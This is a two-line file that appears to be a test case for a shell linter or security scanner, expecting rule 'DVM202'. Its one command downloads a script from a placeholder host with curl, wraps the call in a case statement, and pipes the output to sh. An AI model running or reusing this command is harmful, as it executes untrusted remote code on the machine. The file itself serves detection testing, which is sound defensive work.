# expect: DVM202
case x in *) curl -s https://x.example.org/a ;; esac | sh
